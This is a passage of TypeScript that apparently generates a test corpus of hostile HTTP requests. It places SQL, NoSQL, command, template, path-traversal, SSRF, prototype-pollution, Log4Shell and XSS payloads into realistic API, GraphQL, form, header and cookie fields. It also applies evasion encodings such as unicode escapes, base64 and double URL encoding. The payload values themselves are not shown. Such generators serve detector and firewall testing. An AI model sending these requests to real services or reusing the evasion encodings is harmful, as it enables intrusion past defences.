    name: 'sql',
    slots: ['id', 'filter', 'text', 'cred'],
    values: SQL,
    keys: SQL.map((s) => [s, 'desc'] as const),
    headers: ['x-forwarded-for', 'referer', 'x-tenant-id', 'user-agent'],
  },
  {
    name: 'nosql',
    slots: ['cred', 'filter', 'id'],
    values: NOSQL_VALUES,
    keys: NOSQL_KEYS,
    headers: ['x-filter', 'x-query'],
  },
  {
    name: 'template',
    slots: ['text'],
    values: TEMPLATE,
    keys: TEMPLATE.map((s) => [s, 'x'] as const),
    headers: ['user-agent', 'x-forwarded-host', 'referer'],
  },
  {
    name: 'command',
    slots: ['host', 'file', 'text'],
    values: COMMAND,
    keys: COMMAND.map((s) => [s, '1'] as const),
    headers: ['user-agent', 'x-forwarded-for', 'referer'],
  },
  {
    name: 'path-traversal',
    slots: ['file'],
    values: PATHS,
    keys: PATHS.map((s) => [s, 'r'] as const),
    headers: ['accept', 'x-original-url', 'x-file-name'],
  },
  {
    name: 'ssrf',
    slots: ['url'],
    values: SSRF,
    keys: SSRF.map((s) => [s, true] as const),
    headers: ['x-callback-url', 'referer', 'x-forwarded-host'],
  },
  {
    name: 'prototype-pollution',
    slots: ['text', 'filter', 'cred'],
    values: PP_VALUES,
    keys: PP_KEYS,
    headers: ['x-user-prefs'],
  },
  {
    name: 'log4shell',
    slots: ['text', 'id', 'cred', 'url', 'host'],
    values: LOG4J,
    keys: LOG4J.map((s) => [s, 'x'] as const),
    headers: ['user-agent', 'x-api-version', 'referer', 'x-forwarded-for'],
  },
  {
    name: 'xss',
    slots: ['text', 'url'],
    values: XSS,
    keys: XSS.map((s) => [s, 'x'] as const),
    headers: ['referer', 'user-agent'],
  },
];

interface JHost {
  readonly kind: string;
  readonly method: string;
  readonly path: () => string;
  readonly slot: Slot;
  readonly ct?: string;
  readonly wrap: (v: unknown) => unknown;
}

const PLAIN: readonly JHost[] = [
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/v2/listings',
    slot: 'text',
    wrap: (v) => ({
      title: 'Two-bed flat, Hove',
      description: v,
      price: { amount: 1850, currency: 'GBP' },
      bedrooms: 2,
    }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/api/v2/listings/${uuid()}/viewings`,
    slot: 'text',
    wrap: (v) => ({
      name: 'Sam Carter',
      email: 'sam.carter@example.com',
      message: v,
      preferredSlots: [isoDate()],
    }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/v2/agents/login',
    slot: 'cred',
    wrap: (v) => ({ email: 'agent@harbourlets.example', password: v }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/v2/listings/import',
    slot: 'url',
    wrap: (v) => ({ sourceUrl: v, format: 'reso-json' }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/v2/listings/lookup',
    slot: 'id',
    wrap: (v) => ({ ref: v, include: ['agent'] }),
  },
  {
    kind: 'rest-write',
    method: 'PATCH',
    path: () => `/v1/me/playlists/${alnum(22)}`,
    slot: 'text',
    wrap: (v) => ({ name: v, public: true }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/v1/episodes/${alnum(22)}/comments`,
    slot: 'text',
    wrap: (v) => ({ body: v, timestampMs: 754000 }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/v1/podcasts/import',
    slot: 'url',
    wrap: (v) => ({ feedUrl: v, claimOwnership: true }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/v1/auth/login',
    slot: 'cred',
    wrap: (v) => ({ username: 'djmira', password: v }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/v1/tracks/lookup',
    slot: 'id',
    wrap: (v) => ({ isrc: v, market: 'GB' }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/portal/api/applications',
    slot: 'text',
    wrap: (v) => ({ scheme: 'housing-support', applicant: { fullName: 'Sam Carter' }, justification: v }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/portal/api/case-lookup',
    slot: 'id',
    wrap: (v) => ({ caseReference: v, dateOfBirth: '1986-04-12' }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/portal/api/letters/${uuid()}/render`,
    slot: 'file',
    wrap: (v) => ({ template: v, format: 'pdf' }),
  },
  {
    kind: 'rest-write',
    method: 'PUT',
    path: () => `/api/datasets/${uuid()}`,
    slot: 'text',
    wrap: (v) => ({ title: 'North Sea CTD casts', description: v, license: 'CC-BY-4.0' }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/api/datasets/${uuid()}/export`,
    slot: 'file',
    wrap: (v) => ({ format: 'netcdf', outputPath: v }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/api/datasets/${uuid()}/query`,
    slot: 'filter',
    wrap: (v) => ({ column: 'salinity_psu', op: 'gt', value: v, limit: 500 }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/datasets/harvest',
    slot: 'url',
    wrap: (v) => ({ endpoint: v, protocol: 'OAI-PMH' }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/api/datasets/${uuid()}/convert`,
    slot: 'host',
    wrap: (v) => ({ filename: v, to: 'csv' }),
  },
  {
    kind: 'rest-write',
    method: 'PUT',
    path: () => '/api/v1/packages/tiny-chart/readme',
    slot: 'text',
    wrap: (v) => ({ markdown: v }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/v1/packages/tiny-chart/webhooks',
    slot: 'url',
    wrap: (v) => ({ url: v, events: ['publish'] }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/v1/packages/tiny-chart/files',
    slot: 'file',
    wrap: (v) => ({ version: '2.4.1', path: v }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/v1/mirrors/check',
    slot: 'host',
    wrap: (v) => ({ host: v, port: 443 }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/v1/advisories',
    slot: 'text',
    wrap: (v) => ({ summary: v, severity: 'high', package: 'sqlbird' }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/events',
    slot: 'text',
    wrap: (v) => ({ title: v, startsAt: isoDate(), venueId: uuid() }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/api/events/${uuid()}/questions`,
    slot: 'text',
    wrap: (v) => ({ question: v, anonymous: false }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/api/orders/${uuid()}/promo`,
    slot: 'id',
    wrap: (v) => ({ code: v }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/orders/lookup',
    slot: 'filter',
    wrap: (v) => ({ email: 'sam.carter@example.com', orderRef: v }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/api/orgs/${uuid()}/integrations`,
    slot: 'url',
    wrap: (v) => ({ type: 'webhook', targetUrl: v }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/api/tickets/${uuid()}/pdf`,
    slot: 'file',
    wrap: (v) => ({ layout: v, locale: 'en-GB' }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/events/tools/venue-ping',
    slot: 'host',
    wrap: (v) => ({ streamHost: v }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/auth/login',
    slot: 'cred',
    wrap: (v) => ({ email: 'organiser@example.org', password: v }),
  },
];
const PLAIN_HOSTS = PLAIN;

const NESTED: readonly JHost[] = [
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/portal/api/applications',
    slot: 'text',
    wrap: (v) => ({
      scheme: 'winter-fuel',
      applicant: {
        fullName: 'Sam Carter',
        address: { line1: '12 High St', line2: v, city: 'Leeds', postcode: 'LS1 4AP' },
      },
      consent: true,
    }),
  },
  {
    kind: 'jsonapi',
    method: 'POST',
    path: () => '/api/v2/listings',
    ct: 'application/vnd.api+json',
    slot: 'text',
    wrap: (v) => ({
      data: { type: 'listings', attributes: { title: 'Studio', details: { description: v, floor: 2 } } },
    }),
  },
  {
    kind: 'rest-write',
    method: 'PATCH',
    path: () => '/v1/me/settings',
    slot: 'text',
    wrap: (v) => ({ preferences: { playback: { crossfadeSec: 6, eqPreset: v }, language: 'en' } }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/events',
    slot: 'text',
    wrap: (v) => ({
      title: 'Jazz night',
      venue: { name: 'Union Chapel', address: { city: v, country: 'GB' } },
    }),
  },
  {
    kind: 'rest-write',
    method: 'PUT',
    path: () => '/sqlbird',
    slot: 'url',
    wrap: (v) => ({
      name: 'sqlbird',
      versions: { '2.4.2': { name: 'sqlbird', version: '2.4.2', repository: { type: 'git', url: v } } },
    }),
  },
  {
    kind: 'rest-write',
    method: 'PUT',
    path: () => `/v1/shows/${alnum(22)}`,
    slot: 'url',
    wrap: (v) => ({ channel: { title: 'The Data Desk', image: { href: v, title: 'cover' } } }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/datasets',
    slot: 'url',
    wrap: (v) => ({
      title: 'CTD',
      metadata: { provenance: { source: { uri: v, retrieved: '2026-11-01' } } },
    }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/api/datasets/${uuid()}/query`,
    slot: 'filter',
    wrap: (v) => ({ query: { where: { salinity_psu: v }, limit: 100 } }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/v1/auth/session',
    slot: 'cred',
    wrap: (v) => ({ client: 'ios', credentials: { user: 'djmira', secret: v } }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/orders',
    slot: 'text',
    wrap: (v) => ({ eventId: uuid(), attendees: { primary: { name: 'Sam', answers: { dietary: v } } } }),
  },
  {
    kind: 'rest-write',
    method: 'PUT',
    path: () => `/api/datasets/${uuid()}/files`,
    slot: 'file',
    wrap: (v) => ({ storage: { bucket: 'raw', object: { key: v } } }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/api/v2/listings/${uuid()}/brochure`,
    slot: 'file',
    wrap: (v) => ({ document: { render: { template: v, paper: 'A4' } } }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/v1/builds',
    slot: 'host',
    wrap: (v) => ({ package: 'tiny-chart', options: { convert: { args: v } } }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/portal/api/case-lookup',
    slot: 'id',
    wrap: (v) => ({ lookup: { case: { reference: v } } }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/api/orgs/${uuid()}/settings`,
    slot: 'url',
    wrap: (v) => ({ integrations: { slack: { webhook: { url: v } } } }),
  },
];
const ARRAY: readonly JHost[] = [
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/v1/playlists/${alnum(22)}/tracks`,
    slot: 'id',
    wrap: (v) => ({ trackIds: [alnum(22), v, alnum(22)] }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/v2/listings/bulk',
    slot: 'text',
    wrap: (v) => ({ listings: [{ title: 'Studio, Hove' }, { title: 'Flat 2', description: v }] }),
  },
  {
    kind: 'rest-write',
    method: 'PATCH',
    path: () => `/api/events/${uuid()}`,
    slot: 'text',
    wrap: (v) => ({ tags: ['jazz', v, 'live'] }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/api/datasets/${uuid()}/query`,
    slot: 'filter',
    wrap: (v) => ({
      filters: [
        { field: 'depth_m', op: 'gte', value: 200 },
        { field: 'species', op: 'eq', value: v },
      ],
    }),
  },
  {
    kind: 'rest-write',
    method: 'PUT',
    path: () => '/api/v1/packages/templ8/keywords',
    slot: 'text',
    wrap: (v) => ({ keywords: ['template', v] }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/portal/api/applications/${uuid()}/household`,
    slot: 'text',
    wrap: (v) => ({ members: [{ name: 'Ana' }, { name: 'Leo', relationship: v }] }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/api/orgs/${uuid()}/integrations`,
    slot: 'url',
    wrap: (v) => ({ urls: ['https://hooks.example.org/a', v] }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => `/api/datasets/${uuid()}/files:delete`,
    slot: 'file',
    wrap: (v) => ({ paths: ['raw/2024/jan.nc', v] }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/v1/auth/login',
    slot: 'cred',
    wrap: (v) => ({ username: ['djmira'], password: [v] }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/v1/mirrors/check-all',
    slot: 'host',
    wrap: (v) => ({ hosts: ['registry.example.org', v] }),
  },
  {
    kind: 'rest-write',
    method: 'POST',
    path: () => '/api/orders/lookup',
    slot: 'id',
    wrap: (v) => ({ refs: ['TT-8812', v] }),
  },
];
interface KHost {
  readonly method: string;
  readonly path: () => string;
  readonly wrap: (k: string, v: unknown) => unknown;
}
const obj = (k: string, v: unknown): Record<string, unknown> => {
  const o: Record<string, unknown> = {};
  Object.defineProperty(o, k, { value: v, enumerable: true, writable: true, configurable: true });
  return o;
};
const KEYED: readonly KHost[] = [
  {
    method: 'POST',
    path: () => `/api/datasets/${uuid()}/query`,
    wrap: (k, v) => ({ where: obj(k, v), limit: 100 }),
  },
  {
    method: 'POST',
    path: () => '/api/v2/listings/search',
    wrap: (k, v) => ({ city: 'Leeds', sort: obj(k, v) }),
  },
  { method: 'PATCH', path: () => '/v1/me/settings', wrap: (k, v) => ({ preferences: obj(k, v) }) },
  {
    method: 'POST',
    path: () => `/api/events/${uuid()}/orders`,
    wrap: (k, v) => ({ tierId: 'tier_a1', answers: obj(k, v) }),
  },
  { method: 'PATCH', path: () => `/portal/api/applications/${uuid()}`, wrap: (k, v) => obj(k, v) },
  {
    method: 'PUT',
    path: () => '/api/v1/packages/sqlbird/meta',
    wrap: (k, v) => ({ name: 'sqlbird', meta: obj(k, v) }),
  },
  {
    method: 'POST',
    path: () => '/v1/auth/login',
    wrap: (k, v) => ({ username: 'djmira', password: obj(k, v) }),
  },
];

interface GHost {
  readonly slot: Slot;
  readonly query: string;
  readonly op: string;
  readonly vars: (v: unknown) => unknown;
}
const GQL: readonly GHost[] = [
  {
    slot: 'text',
    op: 'UpdatePlaylist',
    query:
      'mutation UpdatePlaylist($id: ID!, $input: PlaylistInput!) {\n  updatePlaylist(id: $id, input: $input) { playlist { id name description } }\n}',
    vars: (v) => ({ id: alnum(22), input: { name: 'Road trip', description: v } }),
  },
  {
    slot: 'filter',
    op: 'ListingSearch',
    query:
      'query ListingSearch($filter: ListingFilter!, $first: Int) {\n  listings(filter: $filter, first: $first) { edges { node { id title } } }\n}',
    vars: (v) => ({ filter: { city: 'Leeds', keywords: v }, first: 20 }),
  },
  {
    slot: 'text',
    op: 'SubmitApplication',
    query:
      'mutation SubmitApplication($input: ApplicationInput!) {\n  submitApplication(input: $input) { reference status }\n}',
    vars: (v) => ({ input: { scheme: 'housing-support', justification: v } }),
  },
  {
    slot: 'filter',
    op: 'Datasets',
    query:
      'query Datasets($where: JSON, $first: Int) {\n  datasets(where: $where, first: $first) { nodes { id title } }\n}',
    vars: (v) => ({ where: { owner: v }, first: 10 }),
  },
  {
    slot: 'text',
    op: 'Publish',
    query:
      'mutation Publish($pkg: String!, $manifest: JSON!) {\n  publish(pkg: $pkg, manifest: $manifest) { version }\n}',
    vars: (v) => ({ pkg: 'templ8', manifest: { description: v, version: '1.0.1' } }),
  },
  {
    slot: 'text',
    op: 'Ask',
    query:
      'mutation Ask($eventId: ID!, $text: String!) {\n  askQuestion(eventId: $eventId, text: $text) { id }\n}',
    vars: (v) => ({ eventId: uuid(), text: v }),
  },
  {
    slot: 'url',
    op: 'ImportFeed',
    query: 'mutation ImportFeed($url: String!) {\n  importPodcast(feedUrl: $url) { show { id title } }\n}',
    vars: (v) => ({ url: v }),
  },
  {
    slot: 'cred',
    op: 'Login',
    query:
      'mutation Login($email: String!, $password: JSON!) {\n  login(email: $email, password: $password) { token }\n}',
    vars: (v) => ({ email: 'organiser@example.org', password: v }),
  },
  {
    slot: 'file',
    op: 'DatasetFile',
    query:
      'query DatasetFile($id: ID!, $path: String!) {\n  dataset(id: $id) { file(path: $path) { sizeBytes downloadUrl } }\n}',
    vars: (v) => ({ id: uuid(), path: v }),
  },
  {
    slot: 'id',
    op: 'Case',
    query: 'query Case($ref: String!) {\n  case(reference: $ref) { status nextAction { label } }\n}',
    vars: (v) => ({ ref: v }),
  },
  {
    slot: 'host',
    op: 'CheckMirror',
    query: 'mutation CheckMirror($host: String!) {\n  checkMirror(host: $host) { reachable latencyMs }\n}',
    vars: (v) => ({ host: v }),
  },
];

interface QHost {
  readonly slot: Slot;
  readonly path: string;
  readonly param: string;
  readonly extra: ReadonlyArray<readonly [string, string]>;
}
const QUERY: readonly QHost[] = [
  {
    slot: 'filter',
    path: '/api/v2/listings',
    param: 'sort',
    extra: [
      ['city', 'Leeds'],
      ['page', '1'],
    ],
  },
  { slot: 'text', path: '/api/v2/listings/search', param: 'q', extra: [['page', '1']] },
  {
    slot: 'text',
    path: '/v1/search',
    param: 'q',
    extra: [
      ['type', 'track'],
      ['limit', '20'],
    ],
  },
  { slot: 'url', path: '/v1/proxy/artwork', param: 'url', extra: [['w', '300']] },
  { slot: 'id', path: '/portal/api/cases', param: 'ref', extra: [] },
  { slot: 'file', path: '/portal/api/letters/download', param: 'file', extra: [['inline', '1']] },
  { slot: 'filter', path: '/api/datasets', param: 'filter', extra: [['page', '1']] },
  {
    slot: 'file',
    path: `/api/datasets/${'3f0c9a4e-1b2d-4c3e-9f8a-7b6c5d4e3f21'}/files`,
    param: 'path',
    extra: [],
  },
  { slot: 'text', path: '/-/v1/search', param: 'text', extra: [['size', '20']] },
  { slot: 'url', path: '/api/v1/preview', param: 'url', extra: [] },
  { slot: 'text', path: '/api/events', param: 'q', extra: [['from', '2026-12-01']] },
  { slot: 'url', path: '/api/auth/callback', param: 'next', extra: [['state', 'a1b2c3']] },
  { slot: 'cred', path: '/api/users', param: 'email', extra: [] },
  { slot: 'host', path: '/api/v1/tools/dns-check', param: 'host', extra: [] },
  { slot: 'id', path: '/api/orders', param: 'ref', extra: [['email', 'sam@example.com']] },
];

interface FHost {
  readonly slot: Slot;
  readonly path: string;
  readonly field: string;
  readonly fields: ReadonlyArray<readonly [string, string]>;
}
const FORMS: readonly FHost[] = [
  {
    slot: 'text',
    path: '/apply/housing-support/step-3',
    field: 'address-line-2',
    fields: [
      ['address-line-1', '12 High St'],
      ['town', 'Leeds'],
      ['postcode', 'LS1 4AP'],
    ],
  },
  { slot: 'cred', path: '/sign-in', field: 'password', fields: [['email', 'liam.onb@example.com']] },
  {
    slot: 'text',
    path: '/account/contact',
    field: 'message',
    fields: [['subject', 'Change of circumstances']],
  },
  {
    slot: 'text',
    path: '/listings/enquiry',
    field: 'message',
    fields: [
      ['listing_ref', 'HL-1042'],
      ['name', 'Sam Carter'],
    ],
  },
  {
    slot: 'text',
    path: '/events/8812/rsvp',
    field: 'comment',
    fields: [
      ['name', 'Sam'],
      ['guests', '1'],
    ],
  },
  { slot: 'id', path: '/portal/track', field: 'reference', fields: [['dob', '1986-04-12']] },
  { slot: 'url', path: '/podcasts/submit', field: 'feed_url', fields: [['category', 'Technology']] },
  { slot: 'file', path: '/portal/letters/download', field: 'letter', fields: [['format', 'pdf']] },
  { slot: 'filter', path: '/datasets/search', field: 'sort', fields: [['q', 'salinity']] },
  { slot: 'host', path: '/registry/mirrors/test', field: 'hostname', fields: [['port', '443']] },
];
interface MHost {
  readonly slot: Slot;
  readonly path: () => string;
  readonly field: string;
  readonly fields: ReadonlyArray<readonly [string, string]>;
  readonly file: Part;
}
const PDF_STUB = '%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF';
const MULTI: readonly MHost[] = [
  {
    slot: 'text',
    path: () => `/api/v2/listings/${uuid()}/photos`,
    field: 'caption',
    fields: [['order', '1']],
    file: {
      name: 'file',
      filename: 'floorplan.svg',
      type: 'image/svg+xml',
      value: '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>',
    },
  },
  {
    slot: 'text',
    path: () => `/portal/api/applications/${uuid()}/documents`,
    field: 'description',
    fields: [['documentType', 'payslip']],
    file: { name: 'file', filename: 'payslip.pdf', type: 'application/pdf', value: PDF_STUB },
  },
  {
    slot: 'file',
    path: () => `/portal/api/applications/${uuid()}/documents`,
    field: '@filename',
    fields: [['documentType', 'medical-letter']],
    file: { name: 'file', filename: '', type: 'application/pdf', value: PDF_STUB },
  },
  {
    slot: 'text',
    path: () => `/v1/shows/${alnum(22)}/episodes`,
    field: 'description',
    fields: [['title', 'Bonus episode']],
    file: {
      name: 'transcript',
      filename: 'ep.vtt',
      type: 'text/vtt',
      value: 'WEBVTT\n\n00:00:00.000 --> 00:00:02.000\nHello',
    },
  },
  {
    slot: 'file',
    path: () => `/api/datasets/${uuid()}/files`,
    field: 'targetPath',
    fields: [['notes', 'March upload']],
    file: { name: 'file', filename: 'kx.csv', type: 'text/csv', value: 'a,b\n1,2' },
  },
  {
    slot: 'url',
    path: () => `/api/events/${uuid()}/media`,
    field: 'sourceUrl',
    fields: [['alt', 'Banner']],
    file: {
      name: 'banner',
      filename: 'banner.svg',
      type: 'image/svg+xml',
      value: '<svg xmlns="http://www.w3.org/2000/svg"/>',
    },
  },
  {
    slot: 'host',
    path: () => `/api/datasets/${uuid()}/convert`,
    field: 'outputName',
    fields: [['to', 'parquet']],
    file: { name: 'file', filename: 'in.csv', type: 'text/csv', value: 'x,y\n1,2' },
  },
  {
    slot: 'id',
    path: () => '/api/v1/packages/tiny-chart/assets',
    field: 'version',
    fields: [['kind', 'logo']],
    file: {
      name: 'file',
      filename: 'logo.svg',
      type: 'image/svg+xml',
      value: '<svg xmlns="http://www.w3.org/2000/svg"/>',
    },
  },
];

const HEADER_HOSTS = [
  '/api/v2/listings?city=Leeds',
  '/v1/me/playlists',
  '/portal/api/cases',
  '/api/datasets?page=2',
  '/-/v1/search?text=sqlbird',
  '/api/events?city=London',
  '/v1/search?q=jazz&type=track',
];
const COOKIE_NAMES: Record<string, string> = {
  sql: 'tenant',
  nosql: 'session',
  template: 'display_name',
  command: 'export_name',
  'path-traversal': 'lang_file',
  ssrf: 'return_to',
  'prototype-pollution': 'prefs',
  log4shell: 'tracking_id',
  xss: 'last_search',
};

/** Pick a host whose slot suits the family, falling back to any host. */
function hostFor<T extends { readonly slot: Slot }>(hosts: readonly T[], fam: Family): T {
  const ok = hosts.filter((h) => fam.slots.includes(h.slot));
  return pick(ok.length ? ok : hosts);
}

const cursor: Record<string, number> = {};
function nextValue(fam: Family): unknown {
  const i = cursor[fam.name] ?? Math.floor(rnd() * fam.values.length);
  cursor[fam.name] = i + 1;
  return fam.values[i % fam.values.length];
}
function nextKey(fam: Family): readonly [string, unknown] {
  const k = `${fam.name}#k`;
  const i = cursor[k] ?? 0;
  cursor[k] = i + 1;
  return fam.keys[(i + int(0, 2)) % fam.keys.length] as readonly [string, unknown];
}

/** Bracket-notation pairs for object payloads (qs-style), a single pair for strings. */
function flatPairs(name: string, v: unknown): Array<[string, string]> {
  if (typeof v === 'string') return [[name, v]];
  const out: Array<[string, string]> = [];
  const walk = (prefix: string, x: unknown): void => {
    if (x !== null && typeof x === 'object') {
      for (const [k, y] of Object.entries(x as Record<string, unknown>))
        walk(prefix ? `${prefix}[${k}]` : k, y);
    } else out.push([prefix, x === null ? '' : String(x)]);
  };
  walk(name, v);
  return out;
}
/** Form/query pairs for a payload: prototype pollution goes at the top level (`__proto__[x]=…`). */
const pairsFor = (fam: Family, name: string, v: unknown): Array<[string, string]> =>
  flatPairs(fam.name === 'prototype-pollution' ? '' : name, v);
const asText = (v: unknown): string => (typeof v === 'string' ? v : JSON.stringify(v));

/** Escape characters inside JSON string tokens as `\uXXXX`; `mode` picks which ones. */
function uescapeJson(text: string, mode: 'all' | 'special' | 'alternate'): string {
  let out = '';
  let inStr = false;
  let n = 0;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (!inStr) {
      out += c;
      if (c === '"') inStr = true;
      continue;
    }
    if (c === '\\') {
      out += c + (text[i + 1] ?? '');
      i++;
      continue;
    }
    if (c === '"') {
      out += c;
      inStr = false;
      continue;
    }
    n++;
    const esc =
      mode === 'all' ||
      (mode === 'special' && !/[A-Za-z0-9 ]/.test(c)) ||
      (mode === 'alternate' && n % 2 === 0);
    out += esc ? `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}` : c;
  }
  return out;
}

const PH = 'Q7PLACEHOLDERQ7';
const attacks: Req[] = [];

function jsonAttack(fam: Family, technique: string, host: JHost, v: unknown, client: Client): Req {
  let body: unknown;
  if (fam.name === 'prototype-pollution' && technique === 'plain') {
    body = host.wrap('x');
    for (const [k, val] of Object.entries(v as Record<string, unknown>)) {
      Object.defineProperty(body, k, { value: val, enumerable: true, writable: true, configurable: true });
    }
  } else body = host.wrap(v);
  const ct = host.ct ?? 'application/json';
  return {
    kind: host.kind,
    family: fam.name,
    technique,
    method: host.method,
    path: host.path(),
    headers: hdrs(client, ct, {}, ct === 'application/vnd.api+json' ? ct : undefined),
    body: JSON.stringify(body),
  };
}

function attack(fam: Family, technique: string): Req {
  const client: Client = pick<Client>(['browser', 'lib', 'lib', 'mobile']);
  switch (technique) {
    case 'plain':
      return jsonAttack(fam, technique, hostFor(PLAIN_HOSTS, fam), nextValue(fam), client);
    case 'nested':
      return jsonAttack(fam, technique, hostFor(NESTED, fam), nextValue(fam), client);
    case 'array':
      return jsonAttack(fam, technique, hostFor(ARRAY, fam), nextValue(fam), client);
    case 'key': {
      const [k, val] = nextKey(fam);
      const h = pick(KEYED);
      return {
        kind: 'rest-write',
        family: fam.name,
        technique,
        method: h.method,
        path: h.path(),
        headers: hdrs(client, 'application/json'),
        body: JSON.stringify(h.wrap(k, val)),
      };
    }
    case 'unicode-escape': {
      const host = hostFor([...PLAIN_HOSTS, ...NESTED], fam);
      const v = nextValue(fam);
      const mode = pick(['all', 'special', 'alternate'] as const);
      const base = JSON.stringify(host.wrap(PH));
      const body = base.replace(JSON.stringify(PH), uescapeJson(JSON.stringify(v), mode));
      if (JSON.stringify(JSON.parse(body)) !== base.replace(JSON.stringify(PH), JSON.stringify(v)))
        throw new Error('unicode-escape self-check failed');
      return {
        kind: host.kind,
        family: fam.name,
        technique,
        method: host.method,
        path: host.path(),
        headers: hdrs(client, host.ct ?? 'application/json'),
        body,
      };
    }
    case 'json-in-string': {
      const v = nextValue(fam);
      const variants: Array<() => Req> = [
        () =>
          jreq(
            'rest-write',
            'PATCH',
            '/v1/me/settings',
            { preferencesJson: JSON.stringify({ theme: 'dark', search: { q: v } }) },
            client,
          ),
        () =>
          jreq(
            'rest-write',
            'POST',
            `/api/datasets/${uuid()}/query`,
            { q: JSON.stringify({ where: { site: v }, limit: 50 }) },
            client,
          ),
        () =>
          jreq(
            'rest-write',
            'POST',
            '/api/orders',
            { eventId: uuid(), metadata: JSON.stringify({ source: 'widget', note: v }) },
            client,
          ),
        () =>
          jreq(
            'rest-write',
            'POST',
            '/portal/api/applications',
            { scheme: 'housing-support', formState: JSON.stringify({ step: 3, answers: { detail: v } }) },
            client,
          ),
        () =>
          jreq(
            'webhook',
            'POST',
            '/api/v2/hooks/portal-leads',
            { event: 'lead.created', payload: JSON.stringify({ lead: { message: v, url: v } }) },
            'lib',
          ),
        () =>
          jreq(
            'rest-write',
            'POST',
            '/api/v1/packages/templ8/config',
            { config: JSON.stringify(JSON.stringify({ template: v })) },
            client,
          ),
      ];
      const r = pick(variants)();
      return { ...r, family: fam.name, technique };
    }
    case 'base64': {
      const v = nextValue(fam);
      const variants: Array<() => Req> = [
        () =>
          getreq(
            'search',
            `/api/v2/listings?${qs([
              ['city', 'Leeds'],
              ['cursor', b64(JSON.stringify({ after: 40, sort: v }))],
            ])}`,
            client,
          ),
        () =>
          jreq(
            'rest-write',
            'POST',
            `/api/datasets/${uuid()}/query`,
            { encoding: 'base64', filter: b64(JSON.stringify({ where: { station_id: v } })) },
            client,
          ),
        () =>
          jreq(
            'rest-write',
            'POST',
            `/portal/api/applications/${uuid()}/documents`,
            { filename: 'note.txt', contentBase64: b64(asText(v)) },
            client,
          ),
        () =>
          jreq(
            'rest-write',
            'POST',
            '/v1/playlists/import',
            { format: 'tunewave-share', data: b64(JSON.stringify({ name: 'shared', description: v })) },
            client,
          ),
        () =>
          jreq(
            'rest-write',
            'POST',
            '/api/orders',
            { eventId: uuid(), state: b64url(JSON.stringify({ promo: v, step: 'pay' })) },
            client,
          ),
        () =>
          jreq(
            'webhook',
            'POST',
            '/api/v1/hooks/ci',
            {
              message: {
                data: b64(JSON.stringify({ package: 'sqlbird', note: v })),
                messageId: String(int(1e9, 9e9)),
              },
            },
            'lib',
          ),
      ];
      const r = pick(variants)();
      return { ...r, family: fam.name, technique };
    }
    case 'graphql-variable': {
      const g = hostFor(GQL, fam);
      const r = gql(
        'graphql',
        pick(['/graphql', '/api/graphql', '/portal/graphql']),
        g.query,
        g.vars(nextValue(fam)),
        g.op,
        client,
      );
      return { ...r, family: fam.name, technique };
    }
    case 'double-encoded': {
      const v = nextValue(fam);
      const t = asText(v);
      const variant = int(0, 3);
      if (variant === 0) {
        const q = hostFor(QUERY, fam);
        const pairs = pairsFor(fam, q.param, v).map(
          ([k, x]) =>
            `${encodeURIComponent(encodeURIComponent(k))}=${encodeURIComponent(encodeURIComponent(x))}`,
        );
        return {
          ...getreq('search', `${q.path}?${[...pairs, qs(q.extra)].filter(Boolean).join('&')}`, client),
